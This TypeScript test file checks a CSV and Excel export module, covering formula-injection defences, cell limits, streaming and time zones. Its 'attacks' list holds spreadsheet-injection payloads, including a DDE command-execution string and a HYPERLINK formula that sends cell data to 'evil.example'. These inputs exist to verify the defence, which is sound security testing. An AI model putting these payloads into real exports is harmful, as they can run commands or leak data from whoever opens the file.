import { once } from "node:events";
import { buffer } from "node:stream/consumers";
import type { Worker } from "node:worker_threads";
import { parse } from "csv-parse/sync";
import readXlsxFile from "read-excel-file/node";
import { describe, expect, it } from "vitest";
import { cellText, createWallClock, wallTimeOf } from "./cell-values.ts";
import type { Cell, Column, Table } from "./table.ts";
import { csvFile } from "./csv-file.ts";
import { xlsxContent } from "./xlsx-content.ts";
import { xlsxFile } from "./xlsx-file.ts";

const columns: Column[] = [
  { header: "Outlet", kind: "text", width: 20 },
  { header: "Amount", kind: "hundredths", width: 12 },
  { header: "Orders", kind: "count", width: 8 },
  { header: "Time", kind: "time", width: 20 },
];
const at = Date.UTC(2026, 10, 21, 14, 3, 5);

/** Yields a batch of one row, an empty batch, and a batch of the other rows. */
async function* inBatches(rows: readonly (readonly Cell[])[]) {
  yield rows.slice(0, 1);
  yield [];
  yield rows.slice(1);
}
const tableOf = (rows: readonly (readonly Cell[])[]): Table => ({
  name: "Orders",
  columns,
  batches: inBatches(rows),
});

const readCsv = async (rows: readonly (readonly Cell[])[]): Promise<string[][]> =>
  parse(await buffer(csvFile(tableOf(rows))), { bom: true });
const readXlsx = async (rows: readonly (readonly Cell[])[], maxRows = 1000) =>
  readXlsxFile(await buffer(xlsxContent(tableOf(rows), maxRows)));

/** Texts that a guest, a manager, a chair, or an importer may have entered. */
const attacks = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "|calc",
  "\t=1+1",
  "\r=1+1",
  "\n@x",
  "\thidden tab",
  "   =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u0000=1+1",
  "＝1+1",
  "　＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1+1",
  "−1+1",
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  'Spa;=HYPERLINK("http://evil.example")',
  'Spa; "=1+1',
  "E7\r\n=1+1",
  '"=1+1',
];
/** Returns the parts of a text as they begin after a spreadsheet has split its line or stripped invisible characters. */
const begins = (text: string) =>
  text.split(/[;\r\n]/).map((part) => part.replace(/^[\s\p{Cc}\p{Cf}"]+/u, ""));
const marks = /^[=+\-@|＝＋－＠﹦﹢﹣﹫｜−]/u;

describe("a text in a file for spreadsheets", () => {
  it.each(attacks)("[G-9] is not executed as a formula: %j", async (text) => {
    const rows = [[text, -100, -1, at]] as const;
    const [, csv] = (await readCsv(rows)) as [string[], string[]];
    const [sheet] = await readXlsx(rows);
    const read = String(sheet?.data[1]?.[0]);
    expect(csv[0]).toBe(read);
    for (const part of begins(read)) expect(part).not.toMatch(marks);
    expect(read).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
    // Numbers remain numbers, even if negative.
    expect(csv.slice(1, 3)).toEqual(["-1.00", "-1"]);
    expect(sheet?.data[1]?.slice(1, 3)).toEqual([-1, -1]);
  });

  it.each([
    "Glorietta Spa 100%",
    "C-4F2A",
    "商場 B1－2樓",
    "O'Neil & Sons <b>",
    "a,b",
    'say "hi"',
    "12:30",
    "_x0041_",
    "",
  ])("[ORD-1] is unchanged if it is harmless: %j", async (text) => {
    const rows = [[text, 0, 0, null]] as const;
    expect((await readCsv(rows))[1]?.[0]).toBe(text);
    const [sheet] = await readXlsx(rows);
    expect(sheet?.data[1]?.[0] ?? "").toBe(text);
  });

  it("is truncated at the limit of a cell, but never within a character", () => {
    expect(cellText("字".repeat(40_000))).toHaveLength(32_767);
    expect(cellText(`a${"𠮷".repeat(20_000)}`)).toHaveLength(32_767);
    expect(cellText("𠮷".repeat(20_000))).toHaveLength(32_766);
    expect(cellText("half \ud842 of one")).toBe("half   of one");
  });
});

describe("a table as a file", () => {
  const rows = [
    ["Ayala Center", 123_450, 3, at],
    ["Gaisano", -5, 0, null],
    [null, 2_500_000, 1, at + 1000],
  ] as const;

  it("[I18N-3] is CSV in UTF-8 with a byte order mark, decimal numbers, and readable times", async () => {
    const text = (await buffer(csvFile(tableOf(rows)))).toString();
    expect(text).toBe(
      "\ufeffOutlet,Amount,Orders,Time\r\nAyala Center,1234.50,3,2026-11-21 14:03:05\r\nGaisano,-0.05,0,\r\n,25000.00,1,2026-11-21 14:03:06\r\n",
    );
  });

  it("[I18N-3] is a workbook that contains amounts as numbers and times as dates", async () => {
    const [sheet] = await readXlsx(rows);
    expect(sheet?.sheet).toBe("Orders");
    // The reader returns dates as fractional days, as spreadsheets store them, with a rounding error.
    const toTheSecond = (cell: unknown) =>
      cell instanceof Date ? Math.round(cell.getTime() / 1000) * 1000 : cell;
    expect(sheet?.data.map((row) => row.map(toTheSecond))).toEqual([
      ["Outlet", "Amount", "Orders", "Time"],
      ["Ayala Center", 1234.5, 3, at],
      ["Gaisano", -0.05, 0, null],
      [null, 25_000, 1, at + 1000],
    ]);
  });

  it("continues on another sheet with headings if a sheet is full", async () => {
    const many = Array.from({ length: 7 }, (_, index) => [`Outlet ${index}`, index, index, null]);
    const sheets = await readXlsx(many, 4);
    expect(sheets.map(({ sheet, data }) => [sheet, data.length, data[0]?.[0], data.at(-1)?.[0]])).toEqual([
      ["Orders", 4, "Outlet", "Outlet 2"],
      ["Orders_2", 4, "Outlet", "Outlet 5"],
      ["Orders_3", 2, "Outlet", "Outlet 6"],
    ]);
  });

  it("contains headings even without rows", async () => {
    expect(await readCsv([])).toEqual([["Outlet", "Amount", "Orders", "Time"]]);
    const [sheet] = await readXlsxFile(await buffer(xlsxFile(tableOf([]))));
    expect(sheet?.data).toEqual([["Outlet", "Amount", "Orders", "Time"]]);
  });

  it.each([
    ["csv", csvFile],
    ["xlsx", xlsxFile],
  ])("as %s reads rows only on demand, and releases them when the reader stops", async (_format, make) => {
    let read = 0;
    let released = false;
    async function* endlessRows() {
      try {
        for (;;) {
          read += 100;
          yield Array.from({ length: 100 }, (_, n) => [`Outlet ${Math.random()}`, read + n, 1, at]);
          // Yields to the event loop, as a read from a database does.
          await new Promise(setImmediate);
        }
      } finally {
        released = true;
      }
    }
    const content = make({ name: "Orders", columns, batches: endlessRows() });
    const reader = content.iterator();
    await reader.next();
    // Requires three consecutive idle checks, because a thread that is briefly not scheduled also looks idle.
    let readBefore = 0;
    let idleChecks = 0;
    const countIdleChecks = () => {
      idleChecks = read === readBefore ? idleChecks + 1 : 0;
      readBefore = read;
      return idleChecks;
    };
    await expect.poll(countIdleChecks, { interval: 200, timeout: 30_000 }).toBe(3);
    expect(read).toBeLessThan(20_000);
    content.destroy();
    await expect.poll(() => released).toBe(true);
  });

  it("fails instead of ending early if its rows are interrupted", async () => {
    async function* broken() {
      yield [["Outlet", 1, 1, at]];
      throw new Error("the database went away");
    }
    for (const make of [csvFile, xlsxFile])
      await expect(buffer(make({ name: "Orders", columns, batches: broken() }))).rejects.toThrow("went away");
  });
});

it("fails if the thread of a workbook runs out of memory, without affecting the process", async () => {
  async function* tooManyRows() {
    const long = "by the fountain ".repeat(125_000);
    yield Array.from({ length: 60 }, (_, n) => [long, n, n, at]);
  }
  const content = xlsxFile({ name: "Orders", columns, batches: tooManyRows() });
  await expect(buffer(content)).rejects.toThrow(/memory/);
});

it.each(["to its end", "in part", "until rows do not come"])(
  "leaves no thread behind after a workbook is read %s",
  async (share) => {
    async function* rows() {
      for (let n = 0; n < 5_000; n += 1) yield [["Glorietta", n, n, at]];
      if (share === "until rows do not come") await new Promise(() => {});
    }
    const exits: Promise<unknown>[] = [];
    const watch = (thread: Worker) => exits.push(once(thread, "exit"));
    process.on("worker", watch);
    const content = xlsxFile({ name: "Orders", columns, batches: rows() });
    for await (const _ of content) if (share !== "to its end") break;
    expect(exits).toHaveLength(1);
    await Promise.all(exits);
    process.off("worker", watch);
  },
);

describe("local time", () => {
  it("[DAY-1] shows the time of a zone, including clock changes", () => {
    const shown = (zone: string, iso: string) =>
      new Date(createWallClock(zone)(Date.parse(iso))).toISOString();
    expect(shown("Asia/Manila", "2026-11-20T16:00:00.001Z")).toBe("2026-11-21T00:00:00.001Z");
    expect(shown("-03:30", "2026-11-20T03:29:59.999Z")).toBe("2026-11-19T23:59:59.999Z");
    const berlin = createWallClock("Europe/Berlin");
    const hours = ["2026-10-25T00:59:59Z", "2026-10-25T01:00:00Z", "2026-10-24T23:00:00Z"].map((iso) =>
      new Date(berlin(Date.parse(iso))).toISOString().slice(11, 19),
    );
    expect(hours).toEqual(["02:59:59", "02:00:00", "01:00:00"]);
  });

  it("is written as a date and a time, even before 1970 and with fractions of seconds", () => {
    for (const iso of ["2026-11-21T14:03:05.999Z", "1969-12-31T23:59:59.500Z", "2024-02-29T00:00:00.000Z"])
      expect(wallTimeOf(Date.parse(iso))).toBe(iso.slice(0, 19).replace("T", " "));
  });
});
